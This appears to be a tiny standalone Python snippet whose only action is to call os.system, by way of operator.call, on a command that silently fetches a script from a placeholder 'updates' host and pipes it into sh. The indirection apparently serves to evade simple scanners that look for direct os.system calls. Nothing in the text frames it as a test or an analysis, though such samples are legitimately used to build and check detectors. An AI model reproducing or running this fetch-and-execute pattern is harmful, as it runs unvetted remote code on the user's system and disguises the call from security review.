import operator
import os

operator.call(os.system, "curl -s https://updates.example.net/i.sh | sh")
